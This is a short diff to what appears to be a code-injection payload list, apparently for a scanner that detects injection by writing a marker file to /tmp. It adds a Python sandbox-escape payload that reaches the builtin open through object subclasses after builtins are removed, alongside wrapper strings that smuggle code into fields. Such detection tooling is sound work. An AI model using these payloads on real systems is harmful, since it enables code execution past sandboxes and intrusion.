@@ -77,7 +77,13 @@ _WRAPPED = (
     '";{}#',
     "0;{}",
 )
-_PYTHON = ("open('/tmp/{name}','w').write(str({a}*{b}))", 'open("/tmp/{name}","w").write(str({a}*{b}))')
+_PYTHON = (
+    "open('/tmp/{name}','w').write(str({a}*{b}))",
+    'open("/tmp/{name}","w").write(str({a}*{b}))',
+    # where the built-in functions were taken away: by way of a class that has them in reach
+    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__"
+    "['__builtins__']['open']('/tmp/{name}','w').write('%d'%({a}*{b}))",
+)
 _JAVASCRIPT = (
     "require('fs').writeFileSync('/tmp/{name}',String({a}*{b}))",
     'process.getBuiltinModule("fs").writeFileSync("/tmp/{name}",String({a}*{b}))',
